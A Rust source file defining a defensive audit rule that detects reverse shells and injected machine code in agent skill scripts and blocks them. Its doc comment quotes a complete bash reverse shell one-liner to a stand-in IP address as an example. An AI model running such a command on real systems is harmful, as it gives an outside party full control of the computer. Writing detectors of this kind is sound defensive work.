use flywheel_messages::message;

use super::deeds::{Verdict, judge_deeds};
use crate::audit::rule::declare_rule;
use crate::audit::scripts::{Act, Event, Script};
use crate::audit::{Check, FileView, Observation, Scope};

declare_rule! {
    /// ## What it checks
    /// Scripts and commands that hand the computer to somebody else: a shell whose input and output
    /// are a connection (a reverse shell), in any of its forms, and memory that is filled with
    /// machine code and run.
    ///
    /// ## Why it matters
    /// Whoever is at the other end can do everything the person can, for as long as the computer
    /// runs. There is no honest use for it in a skill.
    ///
    /// ## Example
    /// `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1`
    ///
    /// ## How to fix
    /// Remove it, and find out who wrote it.
    ///
    /// Source: OWASP Agentic Skills Top 10, AST01; Anthropic, “Skills for enterprise”, November
    /// 2026.
    NO_REMOTE_CONTROL {
        code: "EXEC-007",
        name: "no_remote_control",
        group: Running,
        level: Block,
        since: "0.1.0",
        summary: "Somebody else gets control of the computer",
        scope: Scope::Everywhere,
        check: Check::File(check),
    }
}

fn check(view: &FileView<'_>, out: &mut Vec<Observation>) {
    judge_deeds(view, out, judge);
}

fn judge(script: &Script, event: &Event) -> Option<Verdict> {
    match &event.act {
        Act::Attach => Some(joined()),
        Act::Evaluate { code, .. } => {
            let heard = code.from.fetched?;
            let is_it = |other: &Event| other.span == heard && other.act == Act::Listen;
            script.events.iter().any(is_it).then(joined)
        }
        Act::Inject => Some(Verdict::block(
            message!("Memory is filled with machine code and run"),
            message!(
                "What such code does can be seen by nobody who reads the script. Remove it, and \
                 find out who wrote it."
            ),
        )),
        _ => None,
    }
}

fn joined() -> Verdict {
    Verdict::block(
        message!("A shell of this computer is joined to a connection"),
        message!(
            "Whoever is at the other end can do everything the person can. Remove it, and find \
             out who wrote it."
        ),
    )
}
